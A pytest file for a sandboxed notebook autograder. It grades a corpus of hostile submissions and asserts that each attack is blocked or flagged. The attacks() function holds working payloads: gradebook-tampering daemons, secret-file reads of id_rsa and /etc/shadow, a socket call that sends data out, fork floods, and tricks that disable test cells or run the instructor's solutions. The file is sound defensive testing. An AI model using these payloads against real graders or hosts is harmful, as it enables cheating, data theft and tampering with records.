"""Grading that a submission cannot cheat, escape or break: a hostile corpus graded by the real command.

One run of ``./course grade --workers 2`` (sandbox on) grades, for practical 1 and practical 4 (PyTorch),
honest correct copies (two of practical 1, one of practical 4) and a corpus of attacks built from the untouched release or the correct sample:
reading the instructor's notebook, neutering the tests (input and AST transformers, a trace function that
skips lines, patched checks and builtins, sys.exit, a silenced showtraceback, a hijacked runner), a daemon
that outlives its kernel and rewrites every gradebook it finds, writes everywhere, the network, planted
secret files, 64 sleepers, another student's scratch folder, a stdout flood, a 10 GB sparse file, a loop
that ignores SIGINT, and honest work that crashes late or deletes its locked cells.

Asserted: the honest copies get full marks; no attack gains a point over the untouched release and each
is blocked or flagged with a reason; the late crashes keep the points of the cells before them; no
planted marker exists outside the scratch folders; no process of the run survives it; submitted/ is
byte-for-byte unchanged; the gradebook holds exactly the grader's scores. Controls prove the attacks are
real: without the sandbox the file and network attacks succeed, and stock ``nbgrader autograde`` gives
the guard-breaking ones full marks.
"""

import json
import os
import secrets
import shutil
import socket
import sqlite3
import textwrap
import threading
from pathlib import Path

import nbformat
import pytest

from dlcourse.instructor import cli, samples
from dlcourse.instructor.markers import cell_kind
from dlcourse.instructor.records import read_record
from dlcourse.instructor.sandbox import UID_BASE, UID_SLOTS, sandbox_problem
from harness import ROOT, autograde_variants, tree_digest

P1, P4 = "01_computational_graph", "04_pytorch"
TOKEN = secrets.token_hex(6)  # in every marker file name and daemon command line of this run
pytestmark = pytest.mark.skipif(bool(sandbox_problem()), reason=f"the sandbox cannot start here: {sandbox_problem()}")


def _notebooks(assignment):
    """(release notebook, correct sample notebook) of an assignment's only notebook."""
    built = samples.sample_notebooks(ROOT, assignment)
    (name, correct), = built["sample-correct"].items()
    return name, built["sample-untouched"][name], correct


def _with_prefix(notebook, code):
    """The notebook with ``code`` put before the first solution cell's own code."""
    notebook = nbformat.from_dict(json.loads(json.dumps(notebook)))
    cell = next(c for c in notebook.cells if c.cell_type == "code" and cell_kind(c) == "solution")
    cell.source = textwrap.dedent(code).strip() + "\n" + cell.source
    return notebook


def _last_solution_with(notebook, code):
    notebook = nbformat.from_dict(json.loads(json.dumps(notebook)))
    cell = [c for c in notebook.cells if c.cell_type == "code" and cell_kind(c) == "solution"][-1]
    cell.source = cell.source + "\n" + textwrap.dedent(code).strip()
    return notebook, cell.get("id")


class Planted:
    """Files and servers the attacks aim at, outside every sandbox."""

    def __init__(self, tmp_path, course):
        self.secret_file = tmp_path / "home" / ".ssh" / "id_rsa"
        self.secret_file.parent.mkdir(parents=True)
        self.secret_text = f"PRIVATE-KEY-{TOKEN}"
        self.secret_file.write_text(self.secret_text)
        self.markers = [course / f"marker-{TOKEN}", ROOT / f"marker-{TOKEN}", ROOT / ".venv" / f"marker-{TOKEN}",
                        Path.home() / f"marker-{TOKEN}", Path("/tmp") / f"marker-{TOKEN}", tmp_path / f"marker-{TOKEN}",
                        course / "source" / P1 / f"marker-{TOKEN}"]
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen(5)
        self.port = self.server.getsockname()[1]
        self.connections = []
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            self.connections.append(connection.recv(100))
            connection.close()

    def close(self):
        self.server.close()
        for marker in self.markers:
            if marker.exists():
                marker.unlink()


def attacks(planted):
    """{student: (assignment, how it is built: ("release" | "correct", code), expected flag words or None)}.

    A flag word is a fragment of the reason the grader gives (in a flag, a problem or the stop reason)."""
    markers = [str(m) for m in planted.markers]
    daemon = textwrap.dedent(f'''
        import os, sqlite3, sys, time
        for _ in range(40):
            for top in ("/", "/work", "/tmp", "/root"):
                for folder, dirs, files in os.walk(top):
                    dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
                    for name in files:
                        if name.endswith(".db"):
                            try:
                                db = sqlite3.connect(os.path.join(folder, name))
                                db.execute("update grade set manual_score = 999, auto_score = 999")
                                db.commit()
                            except Exception:
                                pass
            for marker in {markers!r}:
                try:
                    open(marker, "w").write("daemon")
                except Exception:
                    pass
            time.sleep(0.5)
    ''')
    return {
        "read-source": (P1, "release", '''
            import glob, json, os
            found = []
            for pattern in ["../" * k + "source/*/*.ipynb" for k in range(6)] + ["/work/**/source/*/*.ipynb",
                            "/root/**/source/*/*.ipynb", "/tmp/**/source/*/*.ipynb"]:
                found += glob.glob(pattern, recursive=True)
            print("instructor notebooks found:", len(found))
            for path in found:  # the first copy of this very notebook (the others may be other assignments)
                if os.path.basename(path) != "01_computational_graph.ipynb":
                    continue
                for cell in json.load(open(path))["cells"]:
                    text = "".join(cell["source"])
                    if "BEGIN SOLUTION" in text and cell["cell_type"] == "code":
                        exec(text, globals())
                raise RuntimeError("the instructor's solutions are defined: stop before this cell's stub")
        ''', ["exec"]),
        "transformer": (P1, "release", '''
            get_ipython().input_transformers_cleanup.append(
                lambda lines: ['pass\\n'] if any(l.startswith('# Checks') for l in lines) else lines)
        ''', ["input transformers"]),
        "ast-transformer": (P1, "release", '''
            import ast
            class _Empty(ast.NodeTransformer):
                def visit_Module(self, node):
                    node.body = [ast.Pass()]
                    return node
            get_ipython().ast_transformers.append(_Empty())
        ''', ["AST transformers"]),
        "trace-skip": (P1, "release", '''
            import sys
            def _jump(frame, event, arg):
                if frame.f_code.co_filename.startswith("<") and frame.f_code.co_name == "<module>":
                    last = max(line for _, _, line in frame.f_code.co_lines() if line)
                    def local(frame, event, arg):
                        if event == "line" and frame.f_lineno < last:
                            try:
                                frame.f_lineno = last
                            except ValueError:
                                pass
                        return local
                    return local
            sys.settrace(_jump)
            def _skip_caller():
                frame = sys._getframe(2)
                last = max(line for _, _, line in frame.f_code.co_lines() if line)
                def local(frame, event, arg):
                    if event == "line" and frame.f_lineno < last:
                        frame.f_lineno = last
                    if frame.f_lineno >= last:
                        sys.settrace(None)
                    return local
                sys.settrace(lambda *a: None)
                frame.f_trace = local
            def topological_order(root):
                _skip_caller()
                return []
        ''', ["trace function"]),
        "patched-checks": (P1, "release", '''
            import numpy as np, dlcourse.checks as _checks, dlcourse.gradcheck as _gradcheck
            _quiet = lambda *a, **k: None
            for _name in ("assert_close", "assert_true", "assert_gradient_close", "check_shape", "assert_equal"):
                setattr(_checks, _name, _quiet)
                globals()[_name] = _quiet
            _gradcheck.check_gradient = _quiet
            np.allclose = lambda *a, **k: True
            assert_close = assert_true = _quiet
        ''', ["rebinds the course's name"]),
        "patched-builtins": (P1, "release", '''
            import builtins
            builtins.isinstance = lambda *a: True
            builtins.abs = lambda x: 0
            builtins.all = builtins.any = lambda x: True
        ''', ["assigns into the module"]),
        "exit-in-test": (P1, "release", '''
            import sys
            def topological_order(root):
                sys.exit(0)
        ''', None),
        "silent-traceback": (P1, "release", '''
            import sys
            get_ipython().showtraceback = lambda *a, **k: None
            get_ipython().showsyntaxerror = lambda *a, **k: None
            sys.excepthook = lambda *a: None
        ''', ["how IPython reports errors"]),
        "runner-hijack": (P1, "release", '''
            import json
            for _name in list(globals()):
                if _name.startswith("_dlcourse_") and not _name.endswith("_remember"):
                    _real = globals()[_name]
                    globals()[_name] = lambda source, nonce, grade_id, _real=_real: _real("print(1)", nonce, grade_id)
            for _name in list(globals()):
                if _name.startswith("_dlcourse_") and _name.endswith("_remember"):
                    globals()[_name[:-9]] = lambda *a: json.dumps({"status": "ok", "mac": "0" * 64})
        ''', ["grader internals", "globals"]),
        "grade-daemon": (P1, "release", f'''
            import os, sys
            _pid = os.fork()
            if _pid == 0:
                os.setsid()
                if os.fork() == 0:
                    os.execve(sys.executable, [sys.executable, "-c", {daemon!r}, "dlcourse-attack-{TOKEN}"], {{}})
                os._exit(0)
            os.waitpid(_pid, 0)
        ''', ["fork"]),
        "write-anywhere": (P1, "release", f'''
            for _path in {markers!r}:
                try:
                    open(_path, "w").write("written")
                    print("WROTE", _path)
                except Exception as _error:
                    print("blocked", _path, type(_error).__name__)
        ''', None),
        "network": (P1, "release", f'''
            import socket
            try:
                socket.create_connection(("127.0.0.1", {planted.port}), timeout=3).sendall(b"ATTACK-{TOKEN}")
                print("CONNECTED")
            except OSError as _error:
                print("network blocked:", _error)
            try:
                print(socket.getaddrinfo("pypi.org", 443))
            except OSError as _error:
                print("dns blocked:", _error)
        ''', ["socket"]),
        "read-secret": (P1, "release", f'''
            for _path in [{str(planted.secret_file)!r}, "/root/.ssh/id_rsa", "/etc/shadow"]:
                try:
                    print("READ", _path, open(_path).read())
                except Exception as _error:
                    print("blocked", _path, type(_error).__name__)
        ''', None),
        "sleepers": (P1, "release", '''
            import os, time
            for _ in range(64):
                if os.fork() == 0:
                    time.sleep(600)
                    os._exit(0)
        ''', ["fork"]),
        "other-scratch": (P1, "release", f'''
            import glob, os
            _mine = os.getcwd()
            for _folder in glob.glob(os.path.join(os.path.dirname(_mine), "*")) + glob.glob("/tmp/*/kernel-*"):
                if _folder != _mine:
                    try:
                        open(os.path.join(_folder, "marker-{TOKEN}"), "w").write("neighbour")
                        print("WROTE INTO", _folder)
                    except Exception as _error:
                        print("blocked", _folder, type(_error).__name__)
            print("neighbours seen:", len(glob.glob(os.path.join(os.path.dirname(_mine), "*"))) - 1)
        ''', None),
        "flood": (P1, "release", '''
            _line = "x" * 1000
            for _ in range(50_000):
                print(_line)
        ''', ["printed too much"]),
        "sparse-file": (P1, "release", '''
            with open("big.bin", "wb") as _handle:
                _handle.seek(10 * 2**30)
                _handle.write(b"x")
        ''', None),
        "ignore-sigint": (P1, "release", '''
            import signal
            signal.signal(signal.SIGINT, signal.SIG_IGN)
            while True:
                pass
        ''', ["ignored the interrupt"]),
        "p4-read-source": (P4, "release", '''
            import glob, json
            found = glob.glob("/work/**/source/04_pytorch/*.ipynb", recursive=True) + glob.glob("../../../source/*/*.ipynb")
            print("instructor notebooks found:", len(found))
            for path in found:  # the first copy of this very notebook (the others may be other assignments)
                if os.path.basename(path) != "01_computational_graph.ipynb":
                    continue
                for cell in json.load(open(path))["cells"]:
                    text = "".join(cell["source"])
                    if "BEGIN SOLUTION" in text and cell["cell_type"] == "code":
                        exec(text, globals())
                raise RuntimeError("the instructor's solutions are defined: stop before this cell's stub")
        ''', ["exec"]),
        "p4-transformer": (P4, "release", '''
            get_ipython().input_transformers_cleanup.append(
                lambda lines: ['pass\\n'] if any(l.startswith('# Checks') for l in lines) else lines)
        ''', ["input transformers"]),
    }


def _printed(folder):
    """What the graded notebooks under folder printed (their outputs, not their code: an attack's code
    names the words its output would print)."""
    texts = []
    for path in sorted(folder.rglob("*.ipynb")):
        for cell in nbformat.read(path, as_version=4).cells:
            for output in cell.get("outputs", []):
                texts.append(json.dumps(output.get("text", "")) + json.dumps(output.get("data", {})))
    return "".join(texts)


def _survivors():
    """Processes of any sandbox uid, or carrying this run's attack token, still alive."""
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            status = Path(f"/proc/{entry}/status").read_text()
            uid = int(next(line for line in status.splitlines() if line.startswith("Uid:")).split()[1])
            cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
        except (OSError, StopIteration, ValueError):
            continue
        if UID_BASE <= uid < UID_BASE + UID_SLOTS or TOKEN.encode() in cmdline:
            found.append((int(entry), uid, cmdline[:80]))
    return found


def _course(tmp_path):
    course = tmp_path / "course"
    for assignment in (P1, P4):
        shutil.copytree(ROOT / "source" / assignment, course / "source" / assignment)
    shutil.copy(ROOT / "nbgrader_config.py", course / "nbgrader_config.py")
    return course


def _submit(submitted, student, assignment, name, notebook):
    folder = submitted / student / assignment
    folder.mkdir(parents=True)
    nbformat.write(notebook, folder / name)


def _build_corpus(submitted, planted):
    """Write every submission; returns {student: (assignment, expected flag words, crash cell or None)}."""
    plan, notebooks = {}, {a: _notebooks(a) for a in (P1, P4)}
    for assignment in (P1, P4):
        name, release, correct = notebooks[assignment]
        for copy in ("honest-1", "honest-2")[:2 if assignment == P1 else 1]:
            _submit(submitted, f"{copy}-{assignment[:2]}", assignment, name, correct)
            plan[f"{copy}-{assignment[:2]}"] = (assignment, None, None)
        crashed, cell = _last_solution_with(correct, "import os\nos._exit(1)")
        _submit(submitted, f"late-crash-{assignment[:2]}", assignment, name, crashed)
        plan[f"late-crash-{assignment[:2]}"] = (assignment, ["kernel died"], cell)
    name, release, correct = notebooks[P1]
    blown, cell = _last_solution_with(correct, "_blob = []\nwhile True:\n    _blob.append(b'x' * 2**26)")
    _submit(submitted, "late-memory", P1, name, blown)
    plan["late-memory"] = (P1, ["out of memory"], cell)
    deleted = nbformat.from_dict(json.loads(json.dumps(correct)))
    deleted.cells = [c for c in deleted.cells if cell_kind(c) not in ("test", "locked")]
    _submit(submitted, "deleted-locked", P1, name, deleted)
    plan["deleted-locked"] = (P1, None, None)
    for student, (assignment, base, code, words) in attacks(planted).items():
        name, release, correct = notebooks[assignment]
        _submit(submitted, student, assignment, name, _with_prefix(release if base == "release" else correct, code))
        plan[student] = (assignment, words, None)
    return plan


def _evidence(record):
    return " | ".join([record["reason"]] + record["problems"] + [f["what"] for f in record["flags"]])


def _gradebook_scores(course):
    with sqlite3.connect(course / "gradebook.db") as db:
        return db.execute("select max(coalesce(manual_score, 0)), max(coalesce(auto_score, 0)) from grade").fetchone()


def _check_scores(course, plan, tests_before):
    for student, (assignment, words, crash_cell) in plan.items():
        record = read_record(course, student, assignment)
        assert record is not None, f"{student} was not graded"
        score, maximum = record["score"], record["max_score"]
        if student.startswith(("honest", "deleted-locked")):
            assert score == maximum > 0, f"{student}: honest work scored {score}/{maximum}: {_evidence(record)}"
        elif crash_cell:
            assert score == tests_before[assignment][crash_cell], (
                f"{student}: a late crash in `{crash_cell}` must keep the {tests_before[assignment][crash_cell]} "
                f"points of the tests before it, got {score}: {_evidence(record)}")
        else:
            assert score == 0, f"{student}: the attack gained {score} points: {record['notebooks']}"
        for word in words or []:
            assert word in _evidence(record), f"{student}: expected {word!r} in the grader's reasons: {_evidence(record)}"


def _points_before(assignment):
    """{solution cell id: points of the test cells before it} of an assignment's source notebook."""
    source = nbformat.read(next((ROOT / "source" / assignment).glob("*.ipynb")), as_version=4)
    points, before = 0.0, {}
    for cell in source.cells:
        if cell_kind(cell) == "solution":
            before[cell.get("id")] = points
        elif cell_kind(cell) == "test" and cell.cell_type == "code":
            points += float(cell.metadata.nbgrader.points)
    return before


@pytest.mark.slow
def test_hostile_corpus_gains_nothing_escapes_nothing_and_honest_work_keeps_its_points(tmp_path):
    course = _course(tmp_path)
    submitted = tmp_path / "submitted"
    planted = Planted(tmp_path, course)
    try:
        plan = _build_corpus(submitted, planted)
        before = tree_digest(submitted)
        cli.main(["grade", str(submitted), "--root", str(course), "--workers", "2", "--no-progress",
                  "--cell-timeout", "90", "--time-limit", "900", "--memory-limit-gb", "3"])
        assert tree_digest(submitted) == before, "grading changed submitted/"
        assert not _survivors(), f"processes of the run survived it: {_survivors()}"
        leaked = [str(m) for m in planted.markers if m.exists()]
        assert not leaked, f"attacks wrote outside their scratch folders: {leaked}"
        assert not planted.connections, f"a submission reached the network: {planted.connections}"
        _check_scores(course, plan, {a: _points_before(a) for a in (P1, P4)})
        pages = _printed(course / "autograded")
        assert planted.secret_text not in pages, "a submission read a secret file planted outside its sandbox"
        # (the sandbox's own /tmp is private: a write there is allowed and gone with it; the host's is checked above)
        assert "WROTE INTO" not in pages, "a submission wrote into another submission's scratch folder"
        assert "CONNECTED" not in pages
        manual, auto = _gradebook_scores(course)
        assert manual <= 0 and auto <= 10, f"the gradebook holds scores the grader never gave: {manual}, {auto}"
        records = [read_record(course, s, a) for s, (a, _, _) in plan.items()]
        for record in records:
            for cells in record["notebooks"].values():
                assert all(c["score"] is None or c["score"] <= c["max_score"] for c in cells.values())
    finally:
        planted.close()


@pytest.mark.slow
def test_controls_the_attacks_are_real_without_the_sandbox_and_against_stock_nbgrader(tmp_path):
    """Without the sandbox the file and network attacks succeed; stock nbgrader gives the guard-breaking
    attacks (a transformer, a trace function) full marks: the corpus above can fail."""
    course = _course(tmp_path)
    submitted = tmp_path / "submitted"
    planted = Planted(tmp_path, course)
    try:
        chosen = {k: v for k, v in attacks(planted).items() if k in ("read-source", "read-secret", "network")}
        name, release, _ = _notebooks(P1)
        for student, (assignment, _, code, _) in chosen.items():
            _submit(submitted, student, assignment, name, _with_prefix(release, code))
        cli.main(["grade", str(submitted), "--root", str(course), "--workers", "1", "--no-progress", "--no-sandbox"])
        assert read_record(course, "read-source", P1)["score"] > 0, "reading the source does not work unsandboxed"
        pages = _printed(course / "autograded")
        assert planted.secret_text in pages, "the planted secret is not readable unsandboxed: the test proves nothing"
        assert planted.connections, "the loopback server got no connection unsandboxed"
        guarded = {k: v for k, v in attacks(planted).items() if k in ("transformer", "silent-traceback")}
        scores, _ = autograde_variants(P1, {s: _with_prefix(release, code) for s, (_, _, code, _) in guarded.items()},
                                       workdir=tmp_path / "stock")
        fooled = {s: sum(score for score, _ in scores[s][Path(name).stem].values()) for s in guarded}
        assert fooled["transformer"] > 0, f"stock nbgrader is not fooled by the transformer: {fooled}"
    finally:
        planted.close()
